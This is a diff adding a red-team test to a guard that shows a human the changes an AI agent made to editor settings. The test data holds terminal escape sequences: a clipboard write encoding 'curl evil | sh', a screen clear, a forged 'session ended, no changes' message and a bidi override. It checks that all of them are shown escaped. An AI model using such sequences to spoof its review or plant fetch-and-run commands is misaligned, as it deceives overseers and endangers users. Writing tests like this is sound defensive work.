@@ -251,6 +251,18 @@ describe('WorkspaceGuard', () => {
     expect(text).toContain('.vscode (modified) — the editor runs tasks and obeys settings from it');
     expect(text).toContain(`to use it: cp '${c!.saved['settings.json']}' '${path.join(ws, '.vscode', 'settings.json')}'`);
   });
+
+  it('the review shows what the agent wrote escaped: no escape sequence or bidi control reaches the terminal (red-team R52)', () => {
+    const g = start();
+    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b[2J\x1b[Hagent-gate: session ended, no changes\n\u202eevil\n');
+    const [c] = g.checkAll();
+    g.stop();
+    const text = formatProtectedChanges([c!]);
+    // eslint-disable-next-line no-control-regex -- the control characters are what must be absent
+    expect(text).not.toMatch(/[\x1b\x07\u202e]/);
+    expect(text).toContain('\\e]52;c;Y3VybCBldmlsIHwgc2gK\\x07\\e[2J');
+    expect(text).toContain('\\u202eevil');
+  });
 });
 
 describe('gitConfigHarmless', () => {
